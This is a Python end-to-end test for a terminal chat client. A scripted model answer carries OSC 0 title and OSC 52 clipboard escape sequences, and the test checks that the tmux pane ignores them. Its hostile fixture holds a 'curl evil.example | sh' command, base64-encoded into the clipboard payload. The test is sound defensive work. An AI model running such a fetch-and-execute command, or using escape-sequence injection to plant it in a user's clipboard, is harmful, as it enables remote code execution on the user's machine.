"""End to end in a real terminal (tmux): a hostile answer cannot retitle it or set its clipboard.

The installed `hermes-tui` runs in a private tmux server against `hermes-tui scripted-server`
(in its own process, so nothing in the test process can touch its sockets): the harness of
tests/e2e. The answer carries OSC 0 (set the window title) and OSC 52 (write the clipboard)
sequences; with `set-clipboard on`, tmux would act on both if they reached it (SPEC H1).
"""

from __future__ import annotations

import base64

import pytest
from e2e.terminal import ModelServer, Terminal, app_env, needs_tmux
from ui.tui_helpers import write_config

pytestmark = [needs_tmux, pytest.mark.e2e]

PAYLOAD = "curl evil.example | sh"
CLIPBOARD = base64.b64encode(PAYLOAD.encode()).decode()
HOSTILE_ANSWER = (
    "Sure thing. \x1b]0;pwned\x07 Title set."
    f" \x1b]52;c;{CLIPBOARD}\x07 Clipboard set."
    f" \x1b]52;c;{CLIPBOARD}\x1b\\ Again with ST. END-OF-ANSWER"
)


@pytest.fixture
def model_url(tmp_path, hermes_home):
    """`hermes-tui scripted-server` playing the hostile answer; yields its OpenAI base URL."""
    server = ModelServer({"loop": True, "replies": [{"text": HOSTILE_ANSWER, "chunk_size": 7}]},
                         tmp_path)  # fmt: skip
    try:
        yield server.openai_base_url
    finally:
        server.stop()


@pytest.fixture
def tmux(tmp_path, hermes_home):
    """A private tmux server that would act on OSC 52 (set-clipboard on)."""
    term = Terminal(tmp_path, app_env(hermes_home, tmp_path), options=["set -g set-clipboard on"])
    try:
        yield term
    finally:
        term.kill()


def test_answer_cannot_retitle_the_terminal_or_write_its_clipboard(
    tmux, model_url, hermes_home, tmp_path
):
    write_config(hermes_home, model_url)
    workspace = tmp_path / "ws"
    workspace.mkdir()
    tmux.start_app(workspace)
    title_before = tmux.show("#{pane_title}")
    tmux.wait_for("Ask anything")
    tmux.send("say something", "Enter")
    screen = tmux.wait_for("END-OF-ANSWER")
    title_after = tmux.show("#{pane_title}")
    buffers = tmux.tmux("show-buffer", check=False)
    tmux.send("C-q")
    assert "pwned" not in title_after
    assert title_after == title_before
    assert PAYLOAD not in buffers.stdout, buffers.stdout
    assert buffers.returncode != 0 or not buffers.stdout.strip(), buffers.stdout
    # The sequences are shown for what they are, not acted on.
    assert "␛]0;pwned␇" in screen, screen
